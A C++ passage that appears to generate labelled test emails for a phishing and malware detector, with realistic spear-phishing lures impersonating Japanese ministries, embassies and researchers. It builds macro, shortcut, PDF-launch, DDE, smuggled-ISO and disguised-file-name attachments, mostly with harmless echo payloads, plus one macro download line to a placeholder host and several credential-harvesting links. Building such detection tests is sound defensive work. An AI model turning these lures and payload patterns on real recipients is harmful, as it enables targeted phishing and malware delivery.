            "\"\\Microsoft\\Word\\STARTUP\\wrd.dat\"\r\n"
            "    URLDownloadToFile 0, \"https://docs-sync.genkou-share.test/t/r.dat\", p, 0, 0\r\n"
            "End Sub\r\n";
        m.attachments.push_back(
            {"共著原稿_修正版.zip", "application/x-zip-compressed",
             eval_encrypted_zip({{"共著原稿_修正版.doc", word_doc_with_macro("", "Module1", code)}},
                                "Tk2024_genkou")});
        c.add("mal_ja_reply_chain_encrypted_zip_macro_download", true,
              "T1566.001 macro-download-in-encrypted-zip", "ja", m);
    }
    {
        // A PDF that starts a program on open, space policy theme.
        Mail m;
        std::string to = "m.ito@space.example.ac.jp";
        m.trace = trace("uchuu.senryaku.cao@aol.jp",
                        received("sonic.aol.jp", "198.51.100.200", "mx.space.example.ac.jp",
                                 "E1E2E3E4E5", to, "Fri, 13 Dec 2024 10:01:07 +0900 (JST)"),
                        auth_results("mx.space.example.ac.jp", "pass", "aol.jp", "pass", "aol.jp",
                                     "pass", "aol.jp"));
        m.charset = "ISO-2022-JP";
        m.header_charset = "ISO-2022-JP";
        m.cte = "7bit";
        m.from_name = "内閣府 宇宙開発戦略推進事務局";
        m.from_addr = "uchuu.senryaku.cao@aol.jp";
        m.to = to;
        m.subject = "宇宙基本計画工程表改訂に係る有識者ヒアリングについて";
        m.date = "Fri, 13 Dec 2024 10:01:03 +0900";
        m.message_id = "<1734051663.117.uchuu@aol.jp>";
        m.text =
            "伊藤先生\n\n"
            "内閣府宇宙開発戦略推進事務局でございます。\n"
            "宇宙基本計画工程表の改訂に向け、有識者の皆様からのヒアリングを実施しております。\n"
            "ヒアリング項目を添付のPDFにまとめましたので、ご確認をお願いいたします。\n"
            "PDFを開く際に表示される確認画面では「開く」を選択してください。\n\n"
            "内閣府 宇宙開発戦略推進事務局\n";
        m.attachments.push_back(
            {"ヒアリング項目.pdf", "application/pdf",
             pdf_document("ヒアリング項目", {"Hearing items: space basic plan roadmap"},
                          " /OpenAction 7 0 R",
                          {{7,
                            "<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c start "
                            "%TEMP%\\\\hearing.pdf) /O (open) >> >>"}})});
        c.add("mal_ja_space_policy_pdf_launch", true, "T1204.002 pdf-launch", "ja", m);
    }
    {
        // A file name that hides .scr behind a right-to-left override, Taiwan election.
        Mail m;
        std::string to = "t.fujita@example.or.jp";
        m.trace = trace("taiwan.kenkyukai@gmail.com",
                        received("mail-qt1-f170.google.com", "198.51.100.171", "mx.example.or.jp",
                                 "F00BA41234", to, "Mon, 16 Dec 2024 12:40:33 +0900 (JST)"),
                        gmail_auth("mx.example.or.jp", "taiwan.kenkyukai@gmail.com"),
                        {gmail_hop("c4d2", "Sun, 15 Dec 2024 19:40:30 -0800 (PST)")});
        m.from_name = "台湾政治研究会 幹事 王";
        m.from_addr = "taiwan.kenkyukai@gmail.com";
        m.to = to;
        m.subject = "台湾総統府の対日政策に関する研究会資料";
        m.date = "Mon, 16 Dec 2024 11:40:30 +0800";
        m.message_id = "<CAKq1bXw7Yt3N9sP0e@mail.gmail.com>";
        m.text =
            "藤田先生\n\n"
            "台湾政治研究会の王です。いつもお世話になっております。\n"
            "次回研究会で扱う、頼清徳政権の対日政策と日台関係に関する資料を共有いたします。\n"
            "事前にご覧いただけますと幸いです。\n\n"
            "王 志明\n";
        m.attachments.push_back({"研究会資料.zip", "application/zip",
                                 plain_zip({{"研究会資料_\xE2\x80\xAE"
                                             "fdp.scr",
                                             program("Adobe PDF Document", "report.scr")}})});
        c.add("mal_ja_taiwan_bidi_override_scr", true, "T1036.002 rtlo-file-name", "ja", m);
    }
}

}  // namespace

namespace {

// ---- malicious, English ----------------------------------------------------------------------

/// Harder malicious cases: a compromised real account, and an archive whose password
/// the attacker sends in a second mail, so that it cannot be opened.
void malicious_hard(Collector& c) {
    {
        // PPAP imitated: the password comes separately; only the entry names can be read.
        Mail m;
        std::string to = "t.fujita@example.or.jp";
        m.trace = trace("kantei.kokka.anpo@gmail.com",
                        received("mail-lf1-f53.google.com", "198.51.100.53", "mx.example.or.jp",
                                 "AB77CD88EF", to, "Tue, 14 Jan 2025 10:22:41 +0900 (JST)"),
                        gmail_auth("mx.example.or.jp", "kantei.kokka.anpo@gmail.com"),
                        {gmail_hop("77d1", "Mon, 13 Jan 2025 17:22:38 -0800 (PST)")});
        m.from_name = "国家安全保障局 政策調整班";
        m.from_addr = "kantei.kokka.anpo@gmail.com";
        m.to = to;
        m.subject = "国家安全保障戦略の実施状況に関する有識者ヒアリング資料";
        m.date = "Tue, 14 Jan 2025 10:22:35 +0900";
        m.message_id = "<CAL0pT3vB8yN2qW6e@mail.gmail.com>";
        m.text =
            "藤田様\n\n"
            "平素よりお世話になっております。\n"
            "国家安全保障戦略の実施状況に関する有識者ヒアリングの資料を送付いたします。\n"
            "パスワードは別途お送りいたします。\n\n"
            "ご多用のところ恐縮ですが、1月20日までにご確認いただけますと幸いです。\n\n"
            "国家安全保障局 政策調整班\n";
        m.attachments.push_back(
            {"ヒアリング資料.zip", "application/x-zip-compressed",
             eval_encrypted_zip({{"ヒアリング資料(有識者用).docx.lnk",
                                  shortcut(kPowerShell, ps_args("cdn.anpo-hearing.test"), kWordIcon,
                                           "desktop-q9")}},
                                "Nss#0114hearing")});
        c.add("mal_ja_encrypted_zip_password_in_second_mail", true,
              "T1566.001 lnk-in-encrypted-zip-password-elsewhere", "ja", m);
    }
    {
        // A real researcher's account, taken over: DMARC passes, no attachment, only a link
        // to a look-alike of the recipient's own webmail.
        Mail m;
        std::string to = "y.sato@example.ac.jp";
        m.trace = trace("r.okada@example-u.ac.jp",
                        received("mx1.example-u.ac.jp", "192.0.2.240", "mx.example.ac.jp",
                                 "F1F2F3F4F5", to, "Wed, 15 Jan 2025 08:02:19 +0900 (JST)"),
                        auth_results("mx.example.ac.jp", "pass", "example-u.ac.jp", "pass",
                                     "example-u.ac.jp", "pass", "example-u.ac.jp"));
        m.from_name = "岡田 隆";
        m.from_addr = "r.okada@example-u.ac.jp";
        m.to = to;
        m.subject = "科研費共同研究(東アジア安全保障)の分担金について";
        m.date = "Wed, 15 Jan 2025 08:02:15 +0900";
        m.message_id = "<5a4b3c2d-1e0f-4a9b-8c7d-6e5f4a3b2c1d@example-u.ac.jp>";
        m.text =
            "佐藤先生\n\n"
            "お世話になっております。岡田です。\n"
            "科研費の共同研究(東アジアの安全保障環境と日米同盟)の分担金配分表を\n"
            "学内のファイル共有に置きました。大学の認証でログインしてご確認ください。\n\n"
            "https://webmail-example-ac-jp.test/owa/auth/logon.aspx?replaceCurrent=1&url=share\n\n"
            "今週中に事務へ提出する必要があるため、お早めにお願いいたします。\n\n"
            "岡田\n";
        c.add("mal_ja_compromised_account_credential_link", true,
              "T1566.002 compromised-account-credential-link", "ja", m);
    }
}

void malicious_en(Collector& c) {
    {
        // A Japanese research institute impersonated for an interview on the Indo-Pacific,
        // with a macro workbook.
        Mail m;
        std::string to = "d.miller@example.org";
        m.trace = trace("research@jiia-jp.org",
                        received("mail.jiia-jp.org", "203.0.113.88", "mx.example.org", "1F2E3D4C5B",
                                 to, "Tue, 19 Nov 2024 02:10:05 +0000"),
                        auth_results("mx.example.org", "pass", "jiia-jp.org", "pass", "jiia-jp.org",
                                     "pass", "jiia-jp.org"));
        m.from_name = "The Japan Institute of International Affairs";
        m.from_addr = "research@jiia-jp.org";
        m.to = to;
        m.subject = "Interview request: Japan's Indo-Pacific strategy after the 2024 US election";
        m.date = "Tue, 19 Nov 2024 11:10:01 +0900";
        m.message_id = "<b71c0e2a9f4d4e5c8a1b@jiia-jp.org>";
        m.cte = "quoted-printable";
        m.text =
            "Dear Dr. Miller,\n\n"
            "I am a research fellow at the Japan Institute of International Affairs (JIIA) in "
            "Tokyo.\n"
            "We are preparing a policy report on the future of the Free and Open Indo-Pacific\n"
            "vision and would be honoured to include your views on US-Japan cooperation.\n\n"
            "The attached sheet lists our questions and the available interview slots. As it\n"
            "uses a small script to fill in your time zone, please click \"Enable Content\" when\n"
            "Excel asks. We would appreciate your reply by November 27.\n\n"
            "With best regards,\n\n"
            "Kenji Ogawa\nResearch Fellow\nThe Japan Institute of International Affairs\n"
            "3rd Floor, Toranomon Mitsui Building, Tokyo\n";
        std::string code =
            "Private Sub Workbook_Open()\r\n    Dim sh As Object\r\n"
            "    Set sh = CreateObject(\"WScript.Shell\")\r\n"
            "    sh.Run \"powershell -nop -w hidden -c Write-Output kagami-evaluation\", 0, "
            "False\r\n"
            "End Sub\r\n";
        m.attachments.push_back({"JIIA_Interview_Questions.xlsm",
                                 "application/vnd.ms-excel.sheet.macroEnabled.12",
                                 excel_ooxml({{"Question", "Topic"},
                                              {"1", "US-Japan alliance and extended deterrence"},
                                              {"2", "Quad and AUKUS cooperation"}},
                                             code)});
        c.add("mal_en_jiia_lookalike_interview_xlsm", true, "T1566.001 xlsm-workbook-open", "en",
              m);
    }
    {
        // A "new regulation" notice on semiconductor export controls with a remote template.
        Mail m;
        std::string to = "compliance@example.com";
        m.trace = trace("export-control@meti-go-jp.com",
                        received("smtp.meti-go-jp.com", "203.0.113.21", "mx.example.com",
                                 "7F6E5D4C3B", to, "Wed, 27 Nov 2024 03:22:40 +0000"),
                        auth_results("mx.example.com", "pass", "meti-go-jp.com", "none", "", "none",
                                     "meti-go-jp.com"));
        m.from_name = "METI Trade Control Department";
        m.from_addr = "export-control@meti-go-jp.com";
        m.to = to;
        m.subject =
            "Notice: amended Foreign Exchange and Foreign Trade Act controls on "
            "semiconductor manufacturing equipment";
        m.date = "Wed, 27 Nov 2024 12:22:36 +0900";
        m.message_id = "<0d8f7e6a-1b2c-4d3e-8f90-a1b2c3d4e5f6@meti-go-jp.com>";
        m.text =
            "To export compliance officers,\n\n"
            "The Ministry of Economy, Trade and Industry (METI) has amended the Export Trade\n"
            "Control Order to add 23 items of advanced semiconductor manufacturing equipment.\n"
            "The new regulation takes effect on January 1, 2025.\n\n"
            "Please review the attached guidance and complete the self-assessment form by\n"
            "December 20. Companies that fail to submit may be subject to on-site inspection.\n\n"
            "Security Export Control Policy Division\nTrade Control Department\n"
            "Ministry of Economy, Trade and Industry\n";
        m.attachments.push_back(
            {"Guidance_Amended_Export_Control_Order.docx",
             "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
             word_docx({"Guidance on the amended Export Trade Control Order",
                        "Annex: self-assessment form"},
                       "https://meti-go-jp.com/documents/templates/guidance.dotm")});
        c.add("mal_en_export_control_remote_template", true, "T1221 remote-template", "en", m);
    }
    {
        // A space conference call for papers with an ISO (shortcut + DLL).
        Mail m;
        std::string to = "m.ito@space.example.ac.jp";
        m.trace = trace("ists.program.committee@outlook.com",
                        received("NAM12-BN8-obe.outbound.protection.outlook.com", "192.0.2.81",
                                 "mx.space.example.ac.jp", "2A2B2C2D2E", to,
                                 "Thu, 28 Nov 2024 09:51:12 +0900 (JST)"),
                        auth_results("mx.space.example.ac.jp", "pass", "outlook.com", "pass",
                                     "outlook.com", "pass", "outlook.com"));
        m.from_name = "ISTS Program Committee";
        m.from_addr = "ists.program.committee@outlook.com";
        m.to = to;
        m.subject = "Invited session: lunar exploration and JAXA-NASA cooperation (ISTS 2025)";
        m.date = "Wed, 27 Nov 2024 19:51:08 -0500";
        m.message_id = "<BN8PR12MB3297E0F1A2@BN8PR12MB3297.namprd12.prod.outlook.com>";
        m.text =
            "Dear Professor Ito,\n\n"
            "On behalf of the program committee, we would like to invite you to chair an invited\n"
            "session on lunar exploration and international cooperation at the International\n"
            "Symposium on Space Technology and Science.\n\n"
            "The session outline and the list of confirmed speakers are in the attached disc\n"
            "image; double-click it to open in Windows Explorer.\n\n"
            "Kind regards,\nProgram Committee\n";
        m.attachments.push_back(
            {"ISTS2025_Invited_Session.iso", "application/x-iso9660-image",
             eval_iso_image(
                 {{"Session_Outline.docx.lnk",
                   shortcut("C:\\Windows\\System32\\cmd.exe",
                            "/c start /min rundll32 dbghelp.dll,MiniDumpWriteDump", kWordIcon,
                            "dev-pc-19")},
                  {"dbghelp.dll", library("dbghelp.dll", {"MiniDumpWriteDump", "SymInitialize"})}},
                 "ISTS2025")});
        c.add("mal_en_space_conference_iso_lnk_dll", true, "T1553.005 iso-lnk-dll-sideload", "en",
              m);
    }
    {
        // An embassy impersonated from free mail; password in the body; a shortcut to cmd.
        Mail m;
        std::string to = "kobayashi.h@example.go.jp";
        m.trace = trace("ukraine.embassy.tokyo@gmail.com",
                        received("mail-wm1-f45.google.com", "198.51.100.45", "mx01.example.go.jp",
                                 "4Xq0Zk7Hn2z5", to, "Mon, 2 Dec 2024 17:55:09 +0900 (JST)"),
                        gmail_auth("mx01.example.go.jp", "ukraine.embassy.tokyo@gmail.com"),
                        {gmail_hop("5aa0", "Mon, 2 Dec 2024 00:55:06 -0800 (PST)")});
        m.from_name = "Embassy of Ukraine in Japan";
        m.from_addr = "ukraine.embassy.tokyo@gmail.com";
        m.to = to;
        m.subject = "Briefing note: reconstruction conference and sanctions coordination";
        m.date = "Mon, 2 Dec 2024 10:55:03 +0200";
        m.message_id = "<CAF9nR2pLq8wXe5TzU@mail.gmail.com>";
        m.text =
            "Dear Mr. Kobayashi,\n\n"
            "Further to our meeting last week, please find attached the briefing note on the\n"
            "Ukraine Recovery Conference and on coordination of sanctions against Russia.\n"
            "For security reasons the archive is protected.\n\n"
            "Password: URC-Tokyo-2024\n\n"
            "We would appreciate your comments before the working-level consultations.\n\n"
            "Sincerely,\nPolitical Section\nEmbassy of Ukraine in Japan\n";
        m.attachments.push_back(
            {"Briefing_Note.zip", "application/zip",
             eval_encrypted_zip({{"Briefing_Note_URC2025.pdf.lnk",
                                  shortcut("C:\\Windows\\System32\\cmd.exe",
                                           "/c start /min powershell -w hidden -c Write-Output "
                                           "kagami-evaluation",
                                           kPdfIcon, "desktop-ua01")},
                                 {"Agenda.txt", "Working-level consultations, December 2024\r\n"}},
                                "URC-Tokyo-2024")});
        c.add("mal_en_embassy_gmail_encrypted_zip_lnk", true, "T1566.001 lnk-in-encrypted-zip",
              "en", m);
    }
    {
        // North Korea sanctions report as an RTF with an Equation Editor object.
        Mail m;
        std::string to = "t.fujita@example.or.jp";
        m.trace = trace(
            "poe1718.secretariat@outlook.com",
            received("EUR05-AM6-obe.outbound.protection.outlook.com", "192.0.2.85",
                     "mx.example.or.jp", "0A0B0C0D0E", to, "Wed, 4 Dec 2024 23:18:27 +0900 (JST)"),
            auth_results("mx.example.or.jp", "pass", "outlook.com", "pass", "outlook.com", "pass",
                         "outlook.com"));
        m.from_name = "Panel of Experts (1718 Committee)";
        m.from_addr = "poe1718.secretariat@outlook.com";
        m.to = to;
        m.subject = "Confidential draft: DPRK ship-to-ship transfers, request for comments";
        m.date = "Wed, 4 Dec 2024 09:18:22 -0500";
        m.message_id = "<AM6PR05MB6120F9E8D7@AM6PR05MB6120.eurprd05.prod.outlook.com>";
        m.text =
            "Dear colleague,\n\n"
            "Although the mandate of the Panel has ended, former members continue to document\n"
            "sanctions evasion by the DPRK. Attached is a confidential draft on ship-to-ship\n"
            "transfers of refined petroleum in the East China Sea, including imagery analysis.\n"
            "We would be grateful for comments from Japanese experts by December 12.\n\n"
            "Please do not circulate.\n\nSecretariat\n";
        m.attachments.push_back({"Draft_STS_Transfers_Dec2024.doc", "application/msword",
                                 rtf_with_equation({"{\\b DPRK ship-to-ship transfers (draft)}",
                                                    "Annex 1: vessel list", "Annex 2: imagery"})});
        c.add("mal_en_dprk_sanctions_rtf_equation", true, "T1203 rtf-equation-editor", "en", m);
    }
    {
        // A link on the feed; the sender is an ordinary-looking policy network.
        Mail m;
        std::string to = "d.miller@example.org";
        m.trace =
            trace("editor@pacific-policy-network.example",
                  received("out-7.pacific-policy-network.example", "198.51.100.77",
                           "mx.example.org", "6B5A4C3D2E", to, "Fri, 6 Dec 2024 14:04:19 +0000"),
                  auth_results("mx.example.org", "pass", "pacific-policy-network.example", "pass",
                               "pacific-policy-network.example", "pass",
                               "pacific-policy-network.example"));
        m.from_name = "Pacific Policy Network";
        m.from_addr = "editor@pacific-policy-network.example";
        m.to = to;
        m.subject = "For review: IPEF supply chain chapter, draft v3";
        m.date = "Fri, 6 Dec 2024 23:04:15 +0900";
        m.message_id = "<6b5a4c3d2e.20241206140415@pacific-policy-network.example>";
        m.html =
            "<html><body><p>Dear Dr. Miller,</p><p>Thank you for agreeing to review the supply "
            "chain chapter of our IPEF volume. The third draft is ready:</p>"
            "<p><a href=\"" +
            kFeedUrl2 +
            "\">IPEF_Supply_Chain_Chapter_v3.docx</a> (shared folder, 2.1 MB)</p>"
            "<p>Comments by December 16 would be ideal.</p><p>Best,<br>Naomi Clarke<br>"
            "Editor, Pacific Policy Network</p></body></html>";
        c.add("mal_en_ipef_review_link_on_feed", true, "T1566.002 intel-url", "en", m);
    }
    {
        // A link to a host under a domain the feed lists.
        Mail m;
        std::string to = "compliance@example.com";
        m.trace =
            trace("noreply@quad-summit-secretariat.example",
                  received("mail.quad-summit-secretariat.example", "192.0.2.150", "mx.example.com",
                           "9C8B7A6F5E", to, "Mon, 9 Dec 2024 01:30:10 +0000"),
                  auth_results("mx.example.com", "pass", "quad-summit-secretariat.example", "pass",
                               "quad-summit-secretariat.example", "pass",
                               "quad-summit-secretariat.example"));
        m.from_name = "Quad Business Roundtable Secretariat";
        m.from_addr = "noreply@quad-summit-secretariat.example";
        m.to = to;
        m.subject = "Your registration: Quad critical minerals and semiconductors roundtable";
        m.date = "Mon, 9 Dec 2024 10:30:06 +0900";
        m.message_id = "<reg-20241209-4471@quad-summit-secretariat.example>";
        m.text =
            "Dear participant,\n\n"
            "Thank you for registering for the Quad roundtable on critical minerals and\n"
            "semiconductor supply chains. To confirm your seat, download the participant\n"
            "information pack and sign the non-disclosure acknowledgement:\n\n"
            "https://docs." +
            kFeedDomain +
            "/quad/participant-pack?ref=QR2024-118\n\n"
            "Seats not confirmed by December 13 will be released.\n\nSecretariat\n";
        c.add("mal_en_quad_roundtable_domain_on_feed", true, "T1566.002 intel-domain", "en", m);
    }
    {
        // A link to a bare IP address the feed lists.
        Mail m;
        std::string to = "m.ito@space.example.ac.jp";
        m.trace = trace(
            "proceedings@spacepolicy-forum.example",
            received("mx2.spacepolicy-forum.example", "198.51.100.99", "mx.space.example.ac.jp",
                     "AB12CD34EF", to, "Tue, 10 Dec 2024 08:12:55 +0900 (JST)"),
            auth_results("mx.space.example.ac.jp", "pass", "spacepolicy-forum.example", "none", "",
                         "none", "spacepolicy-forum.example"));
        m.from_name = "Space Policy Forum";
        m.from_addr = "proceedings@spacepolicy-forum.example";
        m.to = to;
        m.subject = "Proceedings: Space Security and Deterrence Workshop (Tokyo)";
        m.date = "Mon, 9 Dec 2024 18:12:50 -0500";
        m.message_id = "<20241209231250.1187@spacepolicy-forum.example>";
        m.text =
            "Dear workshop participants,\n\n"
            "The proceedings of the Space Security and Deterrence Workshop, including the\n"
            "session on counterspace capabilities in the Indo-Pacific, can be downloaded here:\n\n"
            "http://" +
            kFeedIp +
            "/proceedings/SSDW2024_Proceedings.zip\n\n"
            "Best regards,\nWorkshop Secretariat\n";
        c.add("mal_en_space_workshop_ip_on_feed", true, "T1566.002 intel-ip", "en", m);
    }
    {
        // A "secure message" from a MOFA look-alike: HTML smuggling of an ISO.
        Mail m;
        std::string to = "d.miller@example.org";
        m.trace = trace("no-reply@mofa-go-jp.com",
                        received("mail.mofa-go-jp.com", "203.0.113.33", "mx.example.org",
                                 "DEADBEEF01", to, "Wed, 11 Dec 2024 06:40:11 +0000"),
                        auth_results("mx.example.org", "pass", "mofa-go-jp.com", "pass",
                                     "mofa-go-jp.com", "pass", "mofa-go-jp.com"));
        m.from_name = "Ministry of Foreign Affairs of Japan";
        m.from_addr = "no-reply@mofa-go-jp.com";
        m.to = to;
        m.subject = "Secure message: Japan-US Extended Deterrence Dialogue, summary record";
        m.date = "Wed, 11 Dec 2024 15:40:07 +0900";
        m.message_id = "<sm-8d1e44@mofa-go-jp.com>";
        m.text =
            "You have received a secure message from the Ministry of Foreign Affairs of Japan.\n\n"
            "Subject: Japan-US Extended Deterrence Dialogue, summary record (restricted)\n"
            "Open the attached SecureMessage.html to read the message. The document is\n"
            "decrypted in your browser.\n\n"
            "This message will expire in 7 days.\n";
        std::string iso = eval_iso_image(
            {{"Summary_Record.pdf.lnk",
              shortcut(kPowerShell, ps_args("api.securemsg-viewer.test"), kPdfIcon, "ws-0044")}},
            "EDD_RECORD");
        m.attachments.push_back({"SecureMessage.html", "text/html",
                                 smuggling_page(iso, "Summary_Record.iso", "Secure Message",
                                                "Decrypting your document, please wait...")});
        c.add("mal_en_mofa_lookalike_html_smuggling_iso", true, "T1027.006 html-smuggling", "en",
              m);
    }
    {
        // A PDF that runs JavaScript on open, Taiwan Strait tabletop exercise.
        Mail m;
        std::string to = "y.sato@example.ac.jp";
        m.trace = trace("ttx.coordinator@proton.me",
                        received("mail-4323.proton.ch", "192.0.2.232", "mx.example.ac.jp",
                                 "7A7B7C7D7E", to, "Thu, 12 Dec 2024 20:20:20 +0900 (JST)"),
                        auth_results("mx.example.ac.jp", "pass", "proton.me", "pass", "proton.me",
                                     "pass", "proton.me"));
        m.from_name = "Taiwan Contingency TTX Coordinator";
        m.from_addr = "ttx.coordinator@proton.me";
        m.to = to;
        m.subject = "TTX scenario book: Taiwan Strait blockade, move 2";
        m.date = "Thu, 12 Dec 2024 11:20:16 +0000";
        m.message_id = "<xK29fLw0QmT3Zr8sVbN1@proton.me>";
        m.text =
            "Professor Sato,\n\n"
            "Attached is the scenario book for move 2 of the tabletop exercise on a PRC\n"
            "quarantine of Taiwan. The file is protected; Acrobat will ask you to allow the\n"
            "document to verify your participant ID.\n\n"
            "Regards,\nTTX Coordinator\n";
        m.attachments.push_back(
            {"TTX_Move2_Scenario.pdf", "application/pdf",
             pdf_document("TTX Move 2", {"Scenario: quarantine of Taiwan, move 2"},
                          " /OpenAction 7 0 R",
                          {{7,
                            "<< /Type /Action /S /JavaScript /JS (var id = "
                            "this.info.Title; app.launchURL\\('https://verify.ttx-portal.test/"
                            "p?id=' + id, true\\);) >>"}})});
        c.add("mal_en_taiwan_ttx_pdf_javascript", true, "T1204.002 pdf-javascript", "en", m);
    }
    {
        // Defence procurement RFI with a DDE field, DMARC fails for the claimed contractor.
        Mail m;
        std::string to = "k.nakamura@example.co.jp";
        m.trace =
            trace("rfi@defense-logistics.example",
                  received("smtp-relay.mailer.example", "203.0.113.101", "mx-in.example.co.jp",
                           "4Y9q1LmZt5z8", to, "Fri, 13 Dec 2024 02:44:09 +0900 (JST)"),
                  auth_results("mx-in.example.co.jp", "fail", "mailer.example", "fail",
                               "mailer.example", "fail", "defense-logistics.example"));
        m.from_name = "Defense Logistics Procurement Office";
        m.from_addr = "rfi@defense-logistics.example";
        m.to = to;
        m.subject = "RFI: radar-absorbent composite materials for FY2025 programs";
        m.date = "Thu, 12 Dec 2024 12:44:05 -0500";
        m.message_id = "<rfi-2025-0117@defense-logistics.example>";
        m.text =
            "Dear supplier,\n\n"
            "We are conducting market research for radar-absorbent composite materials for\n"
            "FY2025 programs, in cooperation with Japan's Acquisition, Technology & Logistics\n"
            "Agency. Please complete the attached RFI response form and return it by\n"
            "December 20. When Word asks to update links, choose Yes so that the pricing\n"
            "tables load.\n\nContracting Officer\n";
        docx::Options o;
        o.body =
            paragraphs({"Request for Information", "Section A: company profile"}) + "<w:p>" +
            docx::complex_field(
                {" DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe \"/k echo kagami-evaluation\" "}) +
            "</w:p>";
        m.attachments.push_back(
            {"RFI_Response_Form.docx",
             "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
             docx::build(o)});
        c.add("mal_en_procurement_rfi_docx_dde_dmarc_fail", true, "T1559.002 docx-dde", "en", m);
    }
    {
        // MOFA spoofed on its own domain (DMARC fails) with a link text that lies.
        Mail m;
        std::string to = "d.miller@example.org";
        m.trace = trace(
            "press@mofa.go.jp",
            received("host-44.cloudvps.example", "203.0.113.44", "mx.example.org", "C1C2C3C4C5", to,
                     "Mon, 16 Dec 2024 04:02:37 +0000"),
            auth_results("mx.example.org", "fail", "mofa.go.jp", "none", "", "fail", "mofa.go.jp"));
        m.from_name = "MOFA Japan Press Division";
        m.from_addr = "press@mofa.go.jp";
        m.to = to;
        m.subject = "Embargoed: Joint Statement of the Japan-Philippines-US Trilateral Summit";
        m.date = "Mon, 16 Dec 2024 13:02:33 +0900";
        m.message_id = "<press-20241216-0133@mofa.go.jp>";
        m.html =
            "<html><body><p>Dear accredited correspondent,</p>"
            "<p>The embargoed text of the Joint Statement is available to registered media "
            "through the MOFA press portal:</p><p><a "
            "href=\"https://mofa-go-jp.com/press/portal/signin?next=joint-statement\">"
            "https://www.mofa.go.jp/press/release/</a></p>"
            "<p>Embargo: 17 December 2024, 10:00 JST.</p><p>Press Division<br>Ministry of "
            "Foreign Affairs of Japan</p></body></html>";
        c.add("mal_en_mofa_spoof_dmarc_fail_credential_link", true,
              "T1566.002 spoof-lookalike-link", "en", m);
    }
    {
        // A program named like a Word file, in a ZIP: semiconductor supply chain.
        Mail m;
        std::string to = "k.nakamura@example.co.jp";
        m.trace = trace("j.chen.consulting@yahoo.com",
                        received("sonic315-20.consmr.mail.ne1.yahoo.com", "198.51.100.115",
                                 "mx-in.example.co.jp", "4YaB3cD4e5f6", to,
                                 "Tue, 17 Dec 2024 12:10:44 +0900 (JST)"),
                        auth_results("mx-in.example.co.jp", "pass", "yahoo.com", "pass",
                                     "yahoo.com", "pass", "yahoo.com"));
        m.from_name = "Jason Chen";
        m.from_addr = "j.chen.consulting@yahoo.com";
        m.to = to;
        m.subject = "Agenda: roundtable on semiconductor supply chain resilience (Jan 2025)";
        m.date = "Tue, 17 Dec 2024 11:10:40 +0800";
        m.message_id = "<1734405040123.44187@yahoo.com>";
        m.text =
            "Dear Mr. Nakamura,\n\n"
            "As discussed at SEMICON Japan, I am organising a closed roundtable on semiconductor\n"
            "supply chain resilience and the new US export controls on advanced chips.\n"
            "The agenda and the participant list are in the attached file.\n\n"
            "Best regards,\nJason Chen\nSupply Chain Advisory\n";
        m.attachments.push_back(
            {"Roundtable_Agenda.zip", "application/zip",
             plain_zip({{"Roundtable_Agenda_Jan2025.docx                    .scr",
                         program("Microsoft Word Document", "agenda.scr")}})});
        c.add("mal_en_semiconductor_zip_padded_double_extension_scr", true,
              "T1036.007 double-extension-scr", "en", m);
    }
    {
        // Lawmakers' study group on the election, an old Word file with an auto-exec macro.
        Mail m;
        std::string to = "hisho.tanabe@example.jp";
        m.trace = trace(
            "dietstudygroup.office@outlook.com",
            received("APC01-SG2-obe.outbound.protection.outlook.com", "192.0.2.92", "mx.example.jp",
                     "92A0B1C2D3", to, "Wed, 18 Dec 2024 15:33:02 +0900 (JST)"),
            auth_results("mx.example.jp", "pass", "outlook.com", "pass", "outlook.com", "pass",
                         "outlook.com"));
        m.from_name = "Japan-US Parliamentary Exchange Study Group";
        m.from_addr = "dietstudygroup.office@outlook.com";
        m.to = to;
        m.subject = "Study group briefing: implications of the US election for the Diet";
        m.date = "Wed, 18 Dec 2024 14:32:58 +0800";
        m.message_id = "<SG2PR01MB4125A0B1C2@SG2PR01MB4125.apcprd01.prod.outlook.com>";
        m.text =
            "Dear Office of Representative Tanabe,\n\n"
            "The Japan-US Parliamentary Exchange Study Group will hold a briefing for Diet\n"
            "members on the implications of the US election for the alliance, trade and\n"
            "defence spending. Please find the programme and the RSVP form attached; the\n"
            "form requires macros to be enabled to record your office's reply.\n\n"
            "Secretariat\n";
        std::string code =
            "Sub Document_Open()\r\n    Dim o As Object\r\n"
            "    Set o = CreateObject(\"Shell.Application\")\r\n"
            "    o.ShellExecute \"cmd.exe\", \"/c echo kagami-evaluation\", \"\", \"open\", 0\r\n"
            "End Sub\r\n";
        m.attachments.push_back({"Briefing_Programme_RSVP.doc", "application/msword",
                                 word_doc_with_macro(code, "", "")});
        c.add("mal_en_diet_study_group_doc_document_open", true, "T1566.001 vba-autoexec-shell",
              "en", m);
    }
    {
        // A zipped script posing as a document, trilateral security cooperation.
        Mail m;
        std::string to = "kobayashi.h@example.go.jp";
        m.trace = trace(
            "r.santos.dfa@hotmail.com",
            received("DM6-obe.outbound.protection.outlook.com", "192.0.2.66", "mx01.example.go.jp",
                     "4Xs6Tu7Vw8z9", to, "Thu, 19 Dec 2024 10:05:17 +0900 (JST)"),
            auth_results("mx01.example.go.jp", "pass", "hotmail.com", "pass", "hotmail.com", "pass",
                         "hotmail.com"));
        m.from_name = "Ricardo Santos (DFA Philippines)";
        m.from_addr = "r.santos.dfa@hotmail.com";
        m.to = to;
        m.subject = "Draft talking points: Japan-Philippines Reciprocal Access Agreement";
        m.date = "Thu, 19 Dec 2024 09:05:13 +0800";
        m.message_id = "<DM6PR10MB3921B4C5D6@DM6PR10MB3921.namprd10.prod.outlook.com>";
        m.text =
            "Dear Kobayashi-san,\n\n"
            "Ahead of the vice-ministerial call, I attach our draft talking points on the\n"
            "implementation of the Reciprocal Access Agreement and maritime cooperation in\n"
            "the South China Sea. I am using my personal account as our system is down.\n\n"
            "Best,\nRicardo\n";
        std::string script =
            "var sh = new ActiveXObject(\"WScript.Shell\");\r\n"
            "var cmd = \"powershell -nop -w hidden -c Write-Output kagami-evaluation\";\r\n"
            "sh.Run(cmd, 0, false);\r\n";
        m.attachments.push_back({"Talking_Points.zip", "application/zip",
                                 plain_zip({{"Talking_Points_RAA.pdf.js", script}})});
        c.add("mal_en_philippines_zip_jscript", true, "T1059.007 jscript-in-zip", "en", m);
    }
}

}  // namespace

namespace {

// ---- benign, Japanese ------------------------------------------------------------------------

std::string dkim_stub(const std::string& domain, const std::string& selector) {
